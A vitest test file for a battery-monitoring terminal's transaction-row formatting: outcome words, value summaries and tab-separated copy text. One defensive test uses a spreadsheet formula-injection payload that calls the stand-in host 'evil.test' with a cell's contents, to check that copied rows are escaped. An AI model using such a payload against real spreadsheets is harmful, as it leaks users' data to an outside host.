import { expect, it, test } from 'vitest';
import type { PackedBytes, TransactionRow } from '@batbot/core';
import { linesOf, outcomeWords, rowText, saysText, valuesText } from './transaction-words.ts';

const packed = (text: string): PackedBytes => text as PackedBytes; // in ASCII each character is one byte

const row = (change: Partial<TransactionRow> = {}): TransactionRow => ({
  id: 1,
  at: new Date(2026, 0, 1, 7, 5, 9, 12).getTime(),
  text: 'ATI',
  origin: 'user',
  wasSent: true,
  outcome: 'ok',
  code: 'OK',
  latencyMs: 12.4,
  content: { kind: 'lines', lines: ['ACME', 'HW:2.1'] },
  sent: packed('ATI\r\n'),
  reply: packed('OK\r\n'),
  ...change,
});

test('[TERM-161] values are shown in a short form, and unreported values are omitted', () => {
  const values = { packVoltageV: 13.211, currentA: -12.4, socPercent: 78.5, cells: 4, faults: 0 };
  expect(valuesText({ ...values, lowestV: 3.302, highestV: 3.304 })).toBe(
    '13.21\u202FV · −12.4\u202FA · SoC 78.5\u202F% · 4 cells 3.302–3.304\u202FV',
  );
  expect(valuesText({ cells: 0, faults: 2, socPercent: 20 })).toBe('SoC 20.0\u202F% · ▲ 2 faults');
});

test('[TERM-161] each outcome has its glyph and word', () => {
  expect(saysText(row({ outcome: 'timeout', late: { bytes: packed('>'), afterMs: 900 } }))).toBe(
    '1 byte arrived after 900\u202Fms',
  );
  expect(saysText(row({ outcome: 'timeout', late: { bytes: packed('OK'), afterMs: 2_512 } }))).toBe(
    '2 bytes arrived after 2.5\u202Fs',
  );
  const { code: _, ...withoutCode } = row();
  const late = { bytes: packed('OK'), afterMs: 2_512 };
  const texts = [
    row(),
    { ...withoutCode, endedBy: 'prompt' as const },
    { ...withoutCode, endedBy: 'silence' as const },
    row({ outcome: 'error', code: '+CME ERROR: 4' }),
    row({ outcome: 'timeout' }),
    row({ outcome: 'timeout', late }),
    row({ outcome: 'lost' }),
    row({ outcome: 'lost', wasSent: false }),
    row({ outcome: 'writeFailed' }),
  ].map((each) => `${outcomeWords(each).glyph} ${outcomeWords(each).word}`);
  expect(texts).toEqual([
    '✓ OK',
    '✓ Answered',
    '✓ Ended by silence',
    '✕ +CME ERROR: 4',
    '▲ Timeout',
    '▲ Timeout, late',
    '✕ Lost',
    '✕ Not sent',
    '✕ Write failed',
  ]);
});

test('[TERM-186] an uncertain reply is shown with the command that it may answer, also if more follows', () => {
  const late = { bytes: packed('OK'), afterMs: 2_512 };
  const uncertain = row({ outcome: 'unproven', mayAnswer: 'AT+VB?', late });
  expect(outcomeWords(uncertain)).toMatchObject({ glyph: '▲', word: 'Uncertain' });
  expect(saysText(uncertain)).toBe('May answer “AT+VB?”: ACME · HW:2.1');
});

test('[TERM-161] a row is copied as one line with tab-separated columns', () => {
  expect(rowText(row())).toBe('07:05:09.012\tATI\t12\tOK\tACME · HW:2.1');
});

test('[SE-33] a copied row contains no formula for a spreadsheet', () => {
  const text = '=HYPERLINK("http://evil.test/?"&A1)';
  expect(rowText({ ...row(), text })).toContain(`\t'${text}\t`);
});

it('bytes are shown as text with control characters as dots, without empty lines', () => {
  expect(linesOf(packed('\r\nAB\u0001\r\n\r\nOK\r\n'))).toEqual(['AB·', 'OK']);
});
